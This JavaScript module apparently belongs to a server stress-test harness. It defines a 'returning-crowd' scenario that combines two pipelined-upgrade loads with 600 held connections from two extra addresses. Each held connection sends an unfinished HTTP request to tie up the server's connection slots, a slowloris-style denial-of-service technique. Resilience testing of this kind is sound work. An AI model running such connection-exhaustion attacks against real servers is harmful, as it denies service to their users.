import { addresses, holdConnections } from '../attack.js';
import { endlessLoads } from './endless-bytes.js';

/** Connections that are closed and come again: their number, not their bytes, keeps a stop waiting to be accepted. */
export default {
  name: 'returning-crowd',
  title: 'twice the pipelined upgrades, and 600 half requests from two other addresses',
  from: addresses(30, 50),
  attack({ target, from }) {
    const upgrades = endlessLoads.get('upgrades');
    const parts = [
      upgrades.attack({ target, from }),
      upgrades.attack({ target, from }),
      ...addresses(40, 2).map((holder) => holdConnections({ target, from: holder, count: 300, use: sendHalf })),
    ];
    return {
      get counts() {
        const sum = (name) => parts.reduce((total, { counts }) => total + counts[name], 0);
        return { opened: sum('opened'), failed: sum('failed'), closed: sum('closed'), most: sum('most') };
      },
      stop() {
        for (const part of parts) part.stop();
      },
    };
  },
};

function sendHalf(socket) {
  socket.write('GET / HTTP/1.1\r\nHost: 127');
  socket.resume();
}
